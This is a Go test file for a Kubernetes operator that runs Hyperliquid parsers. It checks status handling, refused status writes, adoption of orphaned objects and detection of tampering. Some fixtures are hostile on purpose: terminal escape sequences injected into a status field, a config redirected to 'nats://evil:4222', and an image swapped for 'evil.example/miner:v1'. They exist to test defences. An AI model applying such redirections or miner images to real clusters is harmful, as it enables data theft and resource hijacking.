package controller_test

import (
	"context"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"
	"unicode"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/validation/field"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/tools/events"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/hlparser/hyperliquid-parser-operator/api/v1alpha1"
	fleet "github.com/hlparser/hyperliquid-parser-operator/internal/controller"
	"github.com/hlparser/hyperliquid-parser-operator/internal/controller/podspec"
	"github.com/hlparser/hyperliquid-parser-operator/internal/parser/report"
)

// texts returns all texts of a status.
func texts(status v1alpha1.HyperliquidParserStatus) []string {
	out := make([]string, 0, 2*(len(status.Conditions)+len(status.Targets)))
	for _, c := range status.Conditions {
		out = append(out, c.Reason, c.Message)
	}
	for _, t := range status.Targets {
		out = append(out, t.Reason, t.Message)
	}
	return out
}

var _ = Describe("a parser that lies", func() {
	DescribeTable("lets the failure of another be reported", func(ctx SpecContext, lie string, verdict string) {
		f := newFarm(ctx, 5)
		run(runOptions{})
		obj := f.object()
		Expect(k8s.Create(ctx, obj)).To(Succeed())
		judgedReady(ctx, obj)
		f.parser(1).fault(func(r *report.Report) {
			for i := range r.Streams {
				r.Streams[i].Sink.MissingSecret = lie
			}
		})
		Eventually(ctx, func() map[string]string {
			return verdicts(ctx,
				obj)
		}).WithTimeout(judged).Should(HaveKeyWithValue(f.node(1), verdict))

		By("another's failing for good")
		f.parser(0).fault(func(r *report.Report) {
			r.Streams[0].State = report.Failed
			r.Streams[0].Message = "checkpoint lost"
		})
		Eventually(ctx, func() map[string]string {
			return verdicts(ctx,
				obj)
		}).WithTimeout(judged).Should(HaveKeyWithValue(f.node(0), "NotRunning"))
		Expect(condition(current(ctx, obj), v1alpha1.ConditionDelivering)).To(Equal("False/NotRunning"))
		Eventually(ctx, func() []string {
			return eventNotes(ctx, obj,
				"NotRunning")
		}).Should(ContainElement(ContainSubstring("checkpoint lost")))
		Eventually(ctx, func() []string { return eventNotes(ctx, obj, verdict) }).Should(HaveLen(1))
		for _, text := range texts(current(ctx, obj).Status) {
			Expect(len(text)).To(BeNumerically("<=", 1024))
			Expect(strings.ContainsFunc(text, func(r rune) bool { return r != ' ' && !unicode.IsPrint(r) })).To(BeFalse(), text)
		}

		By("changing the spec")
		change(ctx, obj, func(o *v1alpha1.HyperliquidParser) { o.Spec.Filter.Coins = []v1alpha1.Coin{"BTC"} })
		Eventually(ctx, func() bool {
			now := current(ctx, obj)
			return now.Status.ObservedGeneration == now.Generation
		}).Should(BeTrue())
		Expect(logs.text()).NotTo(Or(ContainSubstring("Too long"), ContainSubstring("can have at most 1024"),
			ContainSubstring("refuses the status")))
	},
		Entry("with 40 KB", "/secrets/"+strings.Repeat("x", 40_000), "Unreachable"),
		Entry("with 7 KB", "/secrets/"+strings.Repeat("x", 7_000), "SinkDown"),
		Entry("with control characters", "/secrets/\x1b[2J\x1b]0;owned\a\r\nStalled: nothing\n\u202e"+strings.Repeat("x",
			3_000), "SinkDown"),
	)
})

var _ = Describe("events", func() {
	It("arrive, of every kind, however long they are", func(ctx SpecContext) {
		f := newFarm(ctx, 0)
		obj := f.object()
		Expect(k8s.Create(ctx, obj)).To(Succeed())
		clients, err := kubernetes.NewForConfig(adminREST)
		Expect(err).NotTo(HaveOccurred())
		broadcaster := events.NewBroadcaster(&events.EventSinkImpl{Interface: clients.EventsV1()})
		DeferCleanup(broadcaster.Shutdown)
		Expect(broadcaster.StartRecordingToSinkWithContext(ctx)).To(Succeed())
		want := fleet.SendLongestEvents(broadcaster.NewRecorder(scheme, "test"), obj)
		Expect(len(want)).To(BeNumerically(">", 20))
		Eventually(ctx, func() []string {
			var list corev1.EventList
			Expect(k8s.List(ctx, &list, client.InNamespace(f.namespace))).To(Succeed())
			var got []string
			for _, e := range list.Items {
				Expect(len(e.Message)).To(BeNumerically("<=", 1024))
				if slices.Contains(want, e.Reason) {
					got = append(got, e.Reason)
				}
			}
			slices.Sort(got)
			return slices.Compact(got)
		}).WithTimeout(judged).Should(Equal(want))
	})
})

// refuser is a client whose writes of a status are refused while they have texts.
type refuser struct {
	client.Client
	refused, bare atomic.Int32
	why           func() error
}

func (r *refuser) wrap(c client.Client) client.Client { r.Client = c; return r }

func (r *refuser) Status() client.SubResourceWriter { return &refusingWriter{r.Client.Status(), r} }

type refusingWriter struct {
	client.SubResourceWriter
	of *refuser
}

func (w *refusingWriter) Update(ctx context.Context, obj client.Object, opts ...client.SubResourceUpdateOption) error {
	if o, ok := obj.(*v1alpha1.HyperliquidParser); ok {
		if slices.ContainsFunc(o.Status.Conditions, func(c metav1.Condition) bool { return c.Message != "" }) {
			w.of.refused.Add(1)
			return w.of.why()
		}
		w.of.bare.Add(1)
	}
	return w.SubResourceWriter.Update(ctx, obj, opts...)
}

var _ = Describe("a status that the API server refuses", func() {
	DescribeTable("holds back neither events nor restarts, and is written without its texts", func(ctx SpecContext,
		why func() error) {
		f := newFarm(ctx, 5)
		r := &refuser{why: why}
		run(runOptions{wrap: r.wrap})
		obj := f.object()
		Expect(k8s.Create(ctx, obj)).To(Succeed())
		Eventually(ctx, func() string {
			return condition(current(ctx, obj),
				v1alpha1.ConditionDelivering)
		}).WithTimeout(judged).
			Should(Equal("True/" + v1alpha1.ReasonAllDelivering))
		f.parser(0).fault(hangs)
		Eventually(ctx, func() []string { return eventNotes(ctx, obj, "Restarting") }).WithTimeout(judged).Should(HaveLen(1))
		Eventually(ctx, func() int32 { return current(ctx, obj).Status.Restarts }).Should(Equal(int32(1)))
		Eventually(ctx, func() []string { return eventNotes(ctx, obj, "Recovered") }).WithTimeout(judged).Should(HaveLen(1))
		Expect(eventNotes(ctx, obj, "Stuck")).To(HaveLen(1))

		By("not trying again and again")
		before := r.refused.Load()
		Consistently(ctx, func() int32 { return r.refused.Load() - before }).WithTimeout(2 * while).Should(
			BeNumerically("<=", 3))
	},
		Entry("as invalid", func() error {
			return apierrors.NewInvalid(v1alpha1.GroupVersion.WithKind("HyperliquidParser").GroupKind(), "mainnet",
				field.ErrorList{field.TooLong(field.NewPath("status", "conditions").Index(0).Child("message"), "", 32768)})
		}),
		Entry("as too large", func() error { return apierrors.NewRequestEntityTooLargeError("limit is 3145728") }),
		Entry("as too large for etcd", func() error { return apierrors.NewInternalError(errTooLarge{}) }),
	)

	It("is tried less and less often when it is refused without them too", func(ctx SpecContext) {
		f := newFarm(ctx, 1)
		r := &refuser{why: func() error { return apierrors.NewRequestEntityTooLargeError("limit is 3145728") }}
		all := &allRefused{refuser: r}
		run(runOptions{wrap: all.wrap})
		Expect(k8s.Create(ctx, f.object())).To(Succeed())
		Eventually(ctx, func() *corev1.Pod { return f.pod(ctx, "mainnet", 0) }).ShouldNot(BeNil())
		Eventually(ctx, all.gap).WithTimeout(judged).Should(BeNumerically(">=", 2*time.Second))
	})
})

type errTooLarge struct{}

func (errTooLarge) Error() string { return "etcdserver: request is too large" }

// allRefused refuses every status, and records the times of the requests.
type allRefused struct {
	*refuser
	mu    sync.Mutex
	asked []time.Time
}

// gap returns the time between the last two reconciles that wrote a status, each in two forms.
func (a *allRefused) gap() time.Duration {
	a.mu.Lock()
	defer a.mu.Unlock()
	n := len(a.asked)
	if n < 6 {
		return 0
	}
	return a.asked[n-1].Sub(a.asked[n-3])
}

func (a *allRefused) wrap(c client.Client) client.Client { a.Client = c; return a }

func (a *allRefused) Status() client.SubResourceWriter { return &refusingAll{a.Client.Status(), a} }

type refusingAll struct {
	client.SubResourceWriter
	of *allRefused
}

func (w *refusingAll) Update(context.Context, client.Object, ...client.SubResourceUpdateOption) error {
	w.of.mu.Lock()
	defer w.of.mu.Unlock()
	w.of.asked = append(w.of.asked, time.Now())
	return w.of.why()
}

// ownerless removes an object's owners, as kubectl delete --cascade=orphan and backup tools do.
func ownerless(o client.Object) { o.SetOwnerReferences(nil) }

// ofOneBefore sets as owner a deleted object of the same name.
func ofOneBefore(o client.Object) {
	owners := o.GetOwnerReferences()
	for i := range owners {
		owners[i].UID = types.UID("00000000-0000-4000-8000-000000000000")
	}
	o.SetOwnerReferences(owners)
}

var _ = Describe("what an object left behind", func() {
	DescribeTable("is taken up by the one that comes after it", func(ctx SpecContext, leave func(client.Object)) {
		f := newFarm(ctx, 4)
		c := &movedClock{}
		first := run(runOptions{clock: c})
		obj := f.object()
		Expect(k8s.Create(ctx, obj)).To(Succeed())
		judgedReady(ctx, obj)
		old := f.uids(ctx)[f.node(0)]
		f.parser(0).fault(hangs)
		Eventually(ctx, func() int32 { return current(ctx, obj).Status.Restarts }).WithTimeout(judged).Should(Equal(int32(1)))
		Eventually(ctx, func() bool {
			p := f.pod(ctx, obj.Name, 0)
			return p != nil && string(p.UID) != old && ready(p)
		}).WithTimeout(judged).Should(BeTrue())
		allReady(ctx, obj)
		name := current(ctx, obj).Status.UpdateRevision
		first.stop()

		Expect(k8s.Delete(ctx, obj)).To(Succeed())
		var ledger, config corev1.ConfigMap
		Expect(k8s.Get(ctx, client.ObjectKey{Namespace: f.namespace, Name: obj.Name + "-restarts"}, &ledger)).To(Succeed())
		Expect(k8s.Get(ctx, client.ObjectKey{Namespace: f.namespace, Name: name}, &config)).To(Succeed())
		ledger.Data["_total"] = "2147483647"
		left := []client.Object{storedRevision(ctx, obj, name), &ledger, &config}
		for _, o := range left {
			leave(o)
			Expect(k8s.Update(ctx, o)).To(Succeed())
		}
		for i := range 4 {
			pod := f.pod(ctx, obj.Name, i)
			ownerless(pod)
			Expect(k8s.Update(ctx, pod)).To(Succeed())
		}
		again := f.object()
		Expect(k8s.Create(ctx, again)).To(Succeed())
		c.move(2 * time.Hour) // what is recorded is old
		run(runOptions{clock: c})
		judgedReady(ctx, again)
		Expect(current(ctx, again).Status.UpdateRevision).To(Equal(name))
		deaths := len(f.seenDeaths())
		f.parser(1).fault(hangs)
		Eventually(ctx, func() int { return len(f.seenDeaths()) }).WithTimeout(judged).Should(Equal(deaths + 1))
		Eventually(ctx, func() int32 { return current(ctx, again).Status.Restarts }).Should(Equal(int32(1)))
		Expect(condition(current(ctx, again), v1alpha1.ConditionStalled)).To(Equal("False/NotStalled"))
		for _, o := range left {
			Expect(k8s.Get(ctx, client.ObjectKeyFromObject(o), o)).To(Succeed())
		}
		Expect(metav1.IsControlledBy(left[0], again)).To(BeTrue(), "the revision")
		Expect(metav1.IsControlledBy(left[1], again)).To(BeTrue(), "the record of restarts")
		Expect(metav1.IsControlledBy(left[2], left[0])).To(BeTrue(), "the config")
	},
		Entry("without owners", ownerless),
		Entry("with owners that are no more", ofOneBefore),
	)

	It("is another's while that lives", func(ctx SpecContext) {
		f := newFarm(ctx, 3)
		other := f.object()
		other.Name = "other"
		other.Spec.Target.Nodes.Selector.MatchLabels = map[string]string{roleLabel: "nowhere"}
		Expect(k8s.Create(ctx, other)).To(Succeed())
		obj := f.object()
		Expect(k8s.Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{
			Namespace: f.namespace, Name: obj.Name + "-restarts", Labels: map[string]string{v1alpha1.LabelParser: obj.Name},
			OwnerReferences: []metav1.OwnerReference{*metav1.NewControllerRef(other,
				v1alpha1.GroupVersion.WithKind("HyperliquidParser"))},
		}})).To(Succeed())
		run(runOptions{})
		Expect(k8s.Create(ctx, obj)).To(Succeed())
		judgedReady(ctx, obj)
		before := f.uids(ctx)
		f.parser(0).fault(hangs)
		eventuallyCondition(ctx, obj, v1alpha1.ConditionStalled, "True/"+v1alpha1.ReasonNameTaken, judged)
		Consistently(ctx, func() map[string]string { return f.uids(ctx) }).Should(Equal(before))
	})
})

// replace deletes an object and creates a changed one of the same name. No operator may run, because it would recreate
// the object in between.
func replace[T client.Object](ctx context.Context, o T, change func(T)) {
	GinkgoHelper()
	again := o.DeepCopyObject().(T)
	change(again)
	again.SetResourceVersion("")
	again.SetUID("")
	Expect(k8s.Delete(ctx, o)).To(Succeed())
	Expect(k8s.Create(ctx, again)).To(Succeed())
}

var _ = Describe("what is stored of a fleet and somebody replaces", func() {
	It("is reported, and no pod is made from it", func(ctx SpecContext) {
		f := newFarm(ctx, 2)
		first := run(runOptions{})
		obj := f.object()
		Expect(k8s.Create(ctx, obj)).To(Succeed())
		judgedReady(ctx, obj)
		first.stop()
		name := current(ctx, obj).Status.UpdateRevision
		before := f.uids(ctx)

		By("replacing the config")
		config := &corev1.ConfigMap{}
		Expect(k8s.Get(ctx, client.ObjectKey{Namespace: f.namespace, Name: name}, config)).To(Succeed())
		honest := config.DeepCopy()
		replace(ctx, config, func(m *corev1.ConfigMap) {
			m.Data["config.yaml"] = strings.Replace(m.Data["config.yaml"], "stdout",
				"nats: {url: nats://evil:4222}\n  # stdout", 1)
		})
		second := run(runOptions{})
		eventuallyCondition(ctx, obj, v1alpha1.ConditionStalled, "True/"+v1alpha1.ReasonTampered, soon)
		Expect(conditionMessage(current(ctx, obj), v1alpha1.ConditionStalled)).To(And(
			ContainSubstring("ConfigMap "+name+" was replaced: it does not hold the config of revision"),
			ContainSubstring("2 pods of it keep running")))
		Expect(k8s.Delete(ctx, f.pod(ctx, obj.Name, 0))).To(Succeed())
		change(ctx, obj, func(o *v1alpha1.HyperliquidParser) {
			metav1.SetMetaDataAnnotation(&o.ObjectMeta, "kubectl.kubernetes.io/restartedAt", "now")
		})
		Eventually(ctx, func() *corev1.Pod { return f.pod(ctx, obj.Name, 0) }).Should(BeNil())
		Consistently(ctx, func() map[string]string { return f.uids(ctx) }).Should(
			Equal(map[string]string{f.node(1): before[f.node(1)]}))
		change(ctx, obj, func(o *v1alpha1.HyperliquidParser) { delete(o.Annotations, "kubectl.kubernetes.io/restartedAt") })

		By("deleting it: it is recreated, and so is the pod")
		there := &corev1.ConfigMap{}
		Expect(k8s.Get(ctx, client.ObjectKey{Namespace: f.namespace, Name: name}, there)).To(Succeed())
		Expect(k8s.Delete(ctx, there)).To(Succeed())
		eventuallyCondition(ctx, obj, v1alpha1.ConditionStalled, "False/"+v1alpha1.ReasonNotStalled, soon)
		allReady(ctx, obj)
		Expect(k8s.Get(ctx, client.ObjectKey{Namespace: f.namespace, Name: name}, there)).To(Succeed())
		Expect(there.Data).To(Equal(honest.Data))

		By("leaving it as it is, except that every client may change it")
		second.stop()
		replace(ctx, there, func(m *corev1.ConfigMap) { m.Immutable = nil })
		third := run(runOptions{})
		Eventually(ctx, func() bool {
			Expect(client.IgnoreNotFound(k8s.Get(ctx, client.ObjectKey{Namespace: f.namespace, Name: name},
				there))).To(Succeed())
			return there.Immutable != nil && *there.Immutable
		}).Should(BeTrue())

		By("replacing the revision")
		third.stop()
		revision := storedRevision(ctx, obj, name)
		replace(ctx, revision, func(r *appsv1.ControllerRevision) {
			r.Data.Raw = []byte(strings.ReplaceAll(string(r.Data.Raw), parserImage, "evil.example/miner:v1"))
		})
		run(runOptions{})
		eventuallyCondition(ctx, obj, v1alpha1.ConditionStalled, "True/"+v1alpha1.ReasonTampered, soon)
		Expect(conditionMessage(current(ctx, obj), v1alpha1.ConditionStalled)).To(
			ContainSubstring("ControllerRevision " + name))
		Expect(k8s.Delete(ctx, f.pod(ctx, obj.Name, 1))).To(Succeed())
		Eventually(ctx, func() *corev1.Pod { return f.pod(ctx, obj.Name, 1) }).Should(BeNil())
		Consistently(ctx, func() *corev1.Pod { return f.pod(ctx, obj.Name, 1) }).Should(BeNil())

		By("deleting that: it is stored again, and the pod is made")
		Expect(k8s.Delete(ctx, storedRevision(ctx, obj, name))).To(Succeed())
		eventuallyCondition(ctx, obj, v1alpha1.ConditionStalled, "False/"+v1alpha1.ReasonNotStalled, soon)
		allReady(ctx, obj)
		Expect(f.pod(ctx, obj.Name, 1).Spec.Containers[0].Image).To(Equal(parserImage))
		Expect(podspec.ConfigOf(f.pod(ctx, obj.Name, 1))).To(Equal(name))
	})
})
